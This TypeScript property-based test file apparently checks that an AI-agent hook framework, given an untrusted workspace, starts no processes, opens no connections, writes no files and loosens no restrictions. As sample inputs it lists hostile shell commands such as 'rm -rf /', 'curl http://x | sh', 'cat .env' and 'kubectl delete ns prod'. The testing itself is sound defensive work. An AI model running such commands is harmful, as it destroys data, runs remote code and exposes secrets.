import { createHook } from 'node:async_hooks'
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import type { Config, Effect, Entry } from '@hookline/core'
import { type CreateOptions, compose } from '@hookline/core/node'
import { eventRows, type JsonObject } from '@hookline/core/protocol'
import type { EventName } from '@hookline/core/sdk'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { packs } from './packs.ts'
import { findLoosening } from './testing/find-loosening.ts'
import { sampleEvents, type Trusted, trustedFor, untrustedFiles } from './testing/untrusted-files.ts'

const base = mkdtempSync(join(tmpdir(), 'hookline-untrusted-'))
const [root, home, managed, marker] = ['work', 'home', 'managed', 'ran'].map((name) => join(base, name)) as [
  string,
  string,
  string,
  string,
]
const { PATH } = process.env

/** Programs that a hook could start by their names: each leaves a file. */
beforeAll(() => {
  for (const name of ['git', 'sh', 'bash', 'node', 'npx', 'npm', 'notify-send', 'curl', 'kubectl', 'prettier'])
    write(join(base, 'bin', name), `#!/bin/sh\n: > '${marker}'\n`, 0o755)
  process.env.PATH = join(base, 'bin')
})
afterAll(() => {
  process.env.PATH = PATH
  rmSync(base, { recursive: true, force: true })
})

function write(path: string, text: string, mode = 0o644): void {
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, text)
  chmodSync(path, mode)
}

/** What nothing may do for an untrusted workspace: start a process or open a connection. */
const forbidden = new Set([
  'PROCESSWRAP',
  'WORKER',
  'TCPCONNECTWRAP',
  'PIPECONNECTWRAP',
  'GETADDRINFOREQWRAP',
  'QUERYWRAP',
  'UDPSENDWRAP',
  'HTTPCLIENTREQUEST',
])

async function watch<T>(act: () => Promise<T>): Promise<{ readonly value: T; readonly started: readonly string[] }> {
  const started: string[] = []
  const hook = createHook({
    init(_id, type) {
      if (forbidden.has(type)) started.push(type)
    },
  }).enable()
  try {
    return { value: await act(), started }
  } finally {
    hook.disable()
  }
}

/** Every file below the directory, with its content. */
const filesIn = (directory: string): Readonly<Record<string, string>> =>
  Object.fromEntries(
    readdirSync(directory, { recursive: true, encoding: 'utf8' })
      .map((name) => join(directory, name))
      .filter((path) => statSync(path).isFile())
      .map((path) => [path, readFileSync(path, 'utf8')]),
  )

type Files = Readonly<Record<string, string>>
/** How the restriction is left out on purpose. */
type Plant = 'none' | 'all-trusted' | 'not-restricted'

interface Try {
  readonly event: EventName
  readonly input: JsonObject
  readonly agent: string | undefined
  readonly asks: boolean
  readonly trusted: Trusted
  readonly files: Files
}

const commands = ['git push --force', 'rm -rf /', 'curl http://x | sh', 'ls', 'cat .env', 'kubectl delete ns prod']
const inputFor = (event: EventName): fc.Arbitrary<JsonObject> =>
  fc.constantFrom(...commands).map((command) => {
    const sample: JsonObject = eventRows[event].sample(root)
    return {
      ...sample,
      ...('command' in sample ? { command } : {}),
      ...(event === 'preToolUse' ? { tool_name: 'Shell', tool_input: { command } } : {}),
      ...('prompt' in sample ? { prompt: command } : {}),
      conversation_id: 'c1',
      generation_id: 'g1',
    }
  })

const gates = sampleEvents.filter((event) => eventRows[event].gate.kind !== 'none')
const events = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...gates) },
  { weight: 1, arbitrary: fc.constantFrom(...sampleEvents) },
)

const tries: fc.Arbitrary<Try> = events.chain((event) =>
  fc.record({
    event: fc.constant(event),
    input: inputFor(event),
    agent: fc.constantFrom(undefined, 'claude', 'cursor'),
    asks: fc.boolean(),
    trusted: trustedFor(event),
    files: untrustedFiles(event, marker),
  }),
)

const optionsFor = ({ event, agent, asks, trusted }: Try, plant: Plant): CreateOptions => ({
  workspaceRoots: [root],
  home,
  enterpriseDir: managed,
  watch: false,
  helperProcess: false,
  ...(plant === 'all-trusted' ? { trust: 'all' } : {}),
  ...(agent === undefined ? {} : { agent }),
  ...(asks ? { onAsk: 'host' } : {}),
  hooks: { [event]: trusted.replies.map((reply, at) => ({ name: `own-${at}`, run: () => reply })) },
})

/** The same configuration as if no entry only restricted. */
const unrestricted = (config: Config): Config => {
  const free = ({ onlyRestricts: _, ...entry }: Entry): Entry => entry
  return {
    ...config,
    entries: config.entries.map(free),
    byEvent: new Map([...config.byEvent].map(([name, entries]) => [name, entries.map(free)])),
  }
}

async function fire(one: Try, plant: Plant): Promise<Effect> {
  const { hooks } = await compose(
    optionsFor(one, plant),
    plant === 'not-restricted'
      ? {
          openConfigs: async (read) => {
            const configs = await read()
            return {
              ...configs,
              current: () => unrestricted(configs.current()),
              fresh: () => unrestricted(configs.current()),
            }
          },
        }
      : {},
  )
  let recorded: Effect | undefined
  hooks.on('record', ({ effect }) => {
    recorded = effect
  })
  const effect = await hooks.untyped.fire(one.event, one.input)
  await hooks.close()
  return effect.notes.includes('fired-and-forgotten') ? (recorded ?? effect) : effect
}

function prepare({ trusted }: Try, files: Files): void {
  for (const directory of [root, home, managed]) rmSync(directory, { recursive: true, force: true })
  mkdirSync(root, { recursive: true })
  write(join(home, '.config/hookline/hookline.json'), JSON.stringify(trusted.user))
  write(join(managed, 'hookline.json'), JSON.stringify(trusted.managed))
  for (const [path, text] of Object.entries(files)) write(join(root, path), text)
}

/** What goes wrong with the untrusted files, compared with the same event without them. */
async function findFaults(one: Try, plant: Plant = 'none', restricted?: Effect[]): Promise<readonly string[]> {
  prepare(one, {})
  const { value: without, started: usual } = await watch(() => fire(one, 'none'))
  const rest = filesIn(base)
  prepare(one, one.files)
  const untrusted = Object.fromEntries(Object.entries(one.files).map(([path, text]) => [join(root, path), text]))
  const { value: given, started } = await watch(() => fire(one, plant))
  if (given.runs.some(({ entry, outcome }) => entry.onlyRestricts === true && outcome.kind !== 'silent'))
    restricted?.push(given)
  const written = { ...filesIn(base) }
  for (const [path, text] of Object.entries({ ...rest, ...untrusted })) if (written[path] === text) delete written[path]
  rmSync(marker, { force: true })
  return [
    ...findLoosening(without, given),
    // The trusted hooks may prepare processes of their own.
    ...(started.length > usual.length ? started.map((type) => `it started ${type}`) : []),
    ...Object.keys(written).map((path) => `it wrote ${path}`),
  ]
}

const RUNS = 500

describe('an untrusted workspace', () => {
  test(`loosens nothing, starts nothing and writes nothing, in ${RUNS} random configurations`, {
    timeout: 600_000,
  }, async () => {
    const restricted: Effect[] = []
    await fc.assert(
      fc.asyncProperty(tries, async (one) => {
        expect(await findFaults(one, 'none', restricted)).toEqual([])
      }),
      { numRuns: RUNS },
    )
    // Otherwise the configurations would have had nothing to say.
    expect(restricted.length).toBeGreaterThan(RUNS / 10)
  })

  /** The same search must find a loosening that is there. */
  test.each<[string, Plant]>([
    ['if every workspace were trusted', 'all-trusted'],
    ['if the answers of its rules and packs were not restricted', 'not-restricted'],
  ])('would loosen something %s', { timeout: 600_000 }, async (_, plant) => {
    const found = await fc.check(
      fc.asyncProperty(tries, async (one) => (await findFaults(one, plant)).length === 0),
      { numRuns: RUNS, endOnFailure: true },
    )
    expect(found.failed).toBe(true)
  })
})

test('packs that start programs, write or look up what a parameter names do not judge', () => {
  const others = packs.filter(({ judges }) => judges !== true).map(({ name }) => name)
  expect(others.toSorted()).toEqual([
    'audit',
    'format-on-edit',
    'notify',
    'session-context',
    'session-init',
    'track-stop',
    'verify-on-stop',
  ])
})
